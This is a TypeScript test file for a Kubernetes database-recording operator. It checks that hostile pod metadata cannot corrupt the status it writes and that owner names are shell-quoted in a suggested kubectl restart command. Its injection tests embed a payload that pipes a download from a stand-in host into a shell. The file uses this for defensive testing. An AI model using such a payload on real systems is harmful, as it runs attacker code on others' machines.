/** Pods whose maker, or whose recorder's stand-in, says what he likes: the status of their database can still be written and read. */

import { RecorderStatus } from '@pgtape/evidence';
import type { KubeObject } from '@pgtape/kube';
import { type DatabaseObservation, statusFields } from './databaseStatus.ts';
import { annotations, RECORDER_CONTAINER } from './injectionPlan.ts';
import { observedPod } from './observedPod.ts';
import { podCoverage, restartCommand } from './podCoverage.ts';
import { PodFacts } from './podFacts.ts';
import { databaseOf, saidOf, seenOf, wantedRecorder } from './recordedCluster.testing.ts';
import { RecordedDatabaseSpec } from './recordedDatabase.ts';
import { RecordedDatabaseStatus } from './recordedDatabaseStatus.ts';
import { recordingBefore, recordingFold } from './recordingFold.ts';

const spec = RecordedDatabaseSpec.parse({
  selector: { matchLabels: { app: 'orders' } },
  archiveRef: 'audit',
});
const nowMs = Date.parse('2026-11-27T05:00:00Z');

function podWith(over: { annotations?: object; image?: string; owner?: object }): KubeObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'orders-0',
      namespace: 'shop',
      uid: 'uid-orders-0',
      labels: { app: 'orders' },
      annotations: { [annotations.by]: 'shop/orders', ...over.annotations },
      ownerReferences: [{ kind: 'StatefulSet', name: 'orders', controller: true, ...over.owner }],
    },
    spec: {
      containers: [{ name: 'postgres' }],
      initContainers: [{ name: RECORDER_CONTAINER, restartPolicy: 'Always', image: over.image ?? 'image' }],
    },
    status: { podIP: '10.0.0.7' },
  } as unknown as KubeObject;
}

/** What would be written; only what statusFields reads is given. */
function written(pod: KubeObject, said: Partial<RecorderStatus> = {}): unknown {
  const read = podCoverage(pod, 'shop/orders', spec);
  if (read === null) throw new Error('not understood');
  const status = RecorderStatus.parse(saidOf(said));
  const pods = [observedPod(read, seenOf({ status }), wantedRecorder)];
  return statusFields({
    database: databaseOf(),
    pods,
    recording: recordingFold(pods, recordingBefore(undefined), nowMs),
    rollout: { state: null },
  } as unknown as DatabaseObservation);
}

describe('one hostile pod keeps the status of its database from being written', () => {
  const most = Number.MAX_SAFE_INTEGER;
  it.each<[string, KubeObject, Partial<RecorderStatus>]>([
    ['a mode that there is not', podWith({ annotations: { [annotations.mode]: 'Sideways' } }), {}],
    [
      'a hash as long as a book',
      podWith({ annotations: { [annotations.configHash]: 'x'.repeat(5000) } }),
      { configHash: '' },
    ],
    ['an image as long as a book', podWith({ image: `a/${'x'.repeat(5000)}` }), {}],
    ['a lag beyond all time', podWith({}), { vault: { ...saidOf().vault, lagSeconds: 1e300 } }],
    [
      'more sessions than there are numbers',
      podWith({}),
      {
        coverage: { ...saidOf().coverage, seen: most, recorded: most, bypasses: most },
        sessions: { open: 0, recorded: most },
      },
    ],
  ])('%s', (_what, pod, said) => {
    expect(RecordedDatabaseStatus.safeParse(written(pod, said)).error).toBeUndefined();
  });

  it('not even many of them together', () => {
    const said = RecorderStatus.parse(saidOf({ sessions: { open: 0, recorded: most } }));
    const read = podCoverage(podWith({}), 'shop/orders', spec);
    if (read === null) throw new Error('not understood');
    const pods = Array.from({ length: 2000 }, (_, n) =>
      observedPod({ ...read, uid: `${n}` }, seenOf({ status: said }), wantedRecorder),
    );
    expect(recordingFold(pods, recordingBefore(undefined), nowMs).sessionsRecorded).toBe(most);
  });
});

describe('an owner’s name runs in the shell of who follows the advice', () => {
  const name = "orders'; curl evil | sh; '";
  it.each([
    ['StatefulSet', `kubectl rollout restart -n shop 'statefulset/orders'\\''; curl evil | sh; '\\'''`],
    ['ReplicaSet', `kubectl rollout restart -n shop 'deployment/orders'\\''; curl evil | sh; '\\'''`],
  ])('is one word: %s', (kind, command) => {
    expect(restartCommand(PodFacts.parse(podWith({ owner: { kind, name } })), 'shop', spec)).toBe(command);
  });

  it('stays as it is where it is plain', () => {
    expect(restartCommand(PodFacts.parse(podWith({})), 'shop', spec)).toBe(
      'kubectl rollout restart -n shop statefulset/orders',
    );
  });
});
